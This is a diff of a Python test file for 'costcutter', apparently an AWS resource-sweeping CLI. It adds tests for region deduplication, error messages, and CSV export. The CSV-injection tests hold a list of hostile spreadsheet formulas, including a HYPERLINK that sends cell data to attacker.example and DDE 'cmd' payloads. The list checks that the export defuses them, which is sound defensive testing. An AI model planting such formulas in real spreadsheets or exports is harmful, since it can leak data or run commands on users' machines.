@@ -9,12 +9,14 @@ import os
 import sqlite3
 import stat
 import subprocess
+import sys
+import time
 
 import boto3
 import pytest
 from click.testing import CliRunner
 
-from costcutter import logs, paths, sandbox
+from costcutter import aws, logs, paths, sandbox
 from costcutter.cli import cli
 from costcutter.store import SCHEMA_VERSION, EventStore
 
@@ -383,3 +385,157 @@ def test_a_read_only_database_is_refused_by_run_in_one_line(sandbox_endpoint, tm
 
     assert str(db) in error and "writable" in error and "--db" in error
     assert db.read_bytes() == before
+
+
+def test_a_region_named_twice_is_swept_once(sandbox_endpoint, db_path):
+    result = invoke("run", "--db", db_path, "--region", "eu-west-1", "--region", "eu-west-1,eu-west-1",
+                    "--service", "s3", "--service", "s3")
+    assert result.exit_code == 0, result.output
+    (run_id,) = run_ids(db_path)
+    with EventStore(db_path) as store:
+        config = store.run(run_id)["config"]
+        started = [(e["region"], e["resource_type"]) for e in store.events(run_id) if e["kind"] == "unit_started"]
+    assert (config["regions"], config["services"]) == (["eu-west-1"], ["s3"])
+    assert started == [("eu-west-1", "buckets")]
+    assert "of 1 services in 1 regions" in result.output
+
+
+def test_the_regions_resolved_from_all_are_deduplicated(sandbox_endpoint):
+    from botocore.stub import Stubber
+    session = aws.make_session(None)
+    ec2 = aws.client(session, "ec2", "us-east-1")
+    with Stubber(ec2) as stub:
+        stub.add_response("describe_regions", {"Regions": [{"RegionName": name} for name in
+                                                           ("us-east-1", "eu-west-1", "us-east-1")]})
+        assert aws.enabled_regions(session) == ["eu-west-1", "us-east-1"]
+
+
+def test_excluding_every_chosen_service_is_refused_before_a_run_is_recorded(sandbox_endpoint, db_path):
+    result = invoke("run", "--db", db_path, "--region", "us-east-1", "--service", "ec2", "--exclude-service", "ec2")
+    assert result.exit_code == 2
+    assert result.output.strip().splitlines() == [
+        "Error: config key 'excluded_services' (from command line): ['ec2'] excludes every service chosen by "
+        "'services' (['ec2'], from command line), so there is nothing to sweep; exclude fewer services, or choose others"]
+    assert not db_path.exists()
+
+
+# CSV export: what a spreadsheet would run as a formula is written as text (OWASP CSV injection)
+
+HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "\t=1+1", "\r=1+1"]
+
+
+def hostile_run(make_reporter):
+    reporter = make_reporter("us-east-1")
+    for name in HOSTILE:
+        reporter.record("failed", "ec2", "key_pairs", resource_id=name, error_code=name, message=name)
+    reporter.events()  # flushed
+    return reporter.run_id
+
+
+def test_report_csv_neutralises_spreadsheet_formulas(make_reporter, db_path, tmp_path):
+    run_id = hostile_run(make_reporter)
+    for target in ("-", tmp_path / "run.csv"):
+        result = invoke("report", run_id, "--db", db_path, "--csv", target)
+        assert result.exit_code == 0, result.output
+        text = result.output if target == "-" else open(target, newline="").read()
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert [row["resource_id"] for row in rows] == ["'" + name for name in HOSTILE]
+        assert [row["message"] for row in rows] == ["'" + name for name in HOSTILE]
+        assert [row["error_code"] for row in rows] == ["'" + name for name in HOSTILE]
+        assert all(row["seq"].isdigit() and row["pid"].isdigit() for row in rows)
+
+
+def test_report_csv_leaves_harmless_text_and_numbers_alone(seeded, db_path):
+    invoke(*run_args(db_path, "us-east-1"))
+    (run_id,) = run_ids(db_path)
+    result = invoke("report", run_id, "--db", db_path, "--csv", "-")
+    rows = list(csv.DictReader(io.StringIO(result.output)))
+    stored = list(EventStore(db_path).events(run_id))
+    assert [dict(row) for row in rows] == [{key: "" if value is None else str(value) for key, value in event.items()}
+                                          for event in stored]
+
+
+def test_a_csv_export_is_private_unless_the_file_exists(seeded, db_path, tmp_path):
+    invoke(*run_args(db_path, "us-east-1"))
+    new = tmp_path / "new.csv"
+    assert invoke("report", "--db", db_path, "--csv", new).exit_code == 0
+    assert new.stat().st_mode & 0o777 == 0o600
+    existing = tmp_path / "existing.csv"
+    existing.write_text("old")
+    existing.chmod(0o644)
+    assert invoke("report", "--db", db_path, "--csv", existing).exit_code == 0
+    assert existing.stat().st_mode & 0o777 == 0o644
+    assert existing.read_text().startswith("seq,run_id")
+
+
+@pytest.mark.parametrize("where, reason", [("folder", "Is a directory"), ("file/under/a/file.csv", "Not a directory"),
+                                           ("missing/run.csv", "No such file or directory")])
+def test_a_csv_path_that_cannot_be_written_is_one_line_and_exit_2(seeded, db_path, tmp_path, where, reason):
+    invoke(*run_args(db_path, "us-east-1"))
+    (tmp_path / "folder").mkdir()
+    (tmp_path / "file").write_text("")
+    target = tmp_path / where
+    result = invoke("report", "--db", db_path, "--csv", target)
+    assert result.exit_code == 2
+    assert result.output.strip().splitlines() == [
+        f"Error: cannot write the CSV export to {target}: {reason}; pass --csv a file path you can write, "
+        "or - for standard output"]
+
+
+# Exit codes and messages the README promises
+
+def costcutter(*args, **environment):
+    """The command in a process of its own, as a person runs it (nothing cached from other tests)."""
+    return subprocess.run([sys.executable, "-m", "costcutter", *map(str, args)], capture_output=True, text=True,
+                          env={**os.environ, **environment}, timeout=120)
+
+
+def test_an_unknown_aws_profile_is_one_line_and_exit_2(sandbox_endpoint, db_path):
+    for args in (["--region", "us-east-1"], []):
+        result = costcutter("run", "--db", db_path, *args, AWS_PROFILE="nope")
+        assert result.returncode == 2, result.stderr
+        assert result.stderr.strip().splitlines() == [
+            "Error: AWS profile 'nope' is not configured; check AWS_PROFILE and aws_profile, "
+            "or run `aws configure --profile nope`"]
+    assert run_ids(db_path) == []
+
+
+def test_commands_that_need_no_aws_work_with_an_unknown_profile(seeded, db_path):
+    invoke(*run_args(db_path, "us-east-1"))
+    result = costcutter("report", "--db", db_path, AWS_PROFILE="nope")
+    assert result.returncode == 0, result.stderr
+
+
+def test_an_unusable_log_dir_that_was_asked_for_is_one_line_and_exit_2(sandbox_endpoint, db_path, tmp_path):
+    (tmp_path / "file").write_text("")
+    log_dir = tmp_path / "file" / "logs"
+    result = costcutter("run", "--db", db_path, "--region", "us-east-1", COSTCUTTER_LOG_DIR=str(log_dir))
+    assert result.returncode == 2, result.stderr
+    assert result.stderr.strip().splitlines() == [
+        f"Error: config key 'log_dir' (from COSTCUTTER_LOG_DIR): cannot write the diagnostic log in {log_dir} "
+        "(Not a directory); use a folder you can write, or leave log_dir unset for the default"]
+    assert not db_path.exists()
+
+
+def test_an_unusable_default_log_dir_is_a_warning(sandbox_endpoint, db_path, tmp_path):
+    (tmp_path / "file").write_text("")
+    result = costcutter("run", "--db", db_path, "--region", "us-east-1", "--service", "s3",
+                        XDG_STATE_HOME=str(tmp_path / "file"))
+    assert result.returncode == 0, result.stderr
+    assert result.stderr.strip().splitlines() == [
+        f"Warning: cannot write the diagnostic log in {tmp_path / 'file' / 'costcutter'} (Not a directory); "
+        "going on without it."]
+    assert len(run_ids(db_path)) == 1
+
+
+def test_an_endpoint_that_refuses_connections_fails_fast(db_path, monkeypatch):
+    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")  # nothing listens on the discard port
+    started = time.monotonic()
+    result = invoke("run", "--db", db_path, "--region", "us-east-1")
+    assert time.monotonic() - started < 5
+    assert result.exit_code == 2
+    assert result.output.strip().splitlines() == [
+        'Error: cannot reach AWS (Could not connect to the endpoint URL: "http://127.0.0.1:9/"); '
+        "check the network or AWS_ENDPOINT_URL"]
+    assert run_ids(db_path) == []
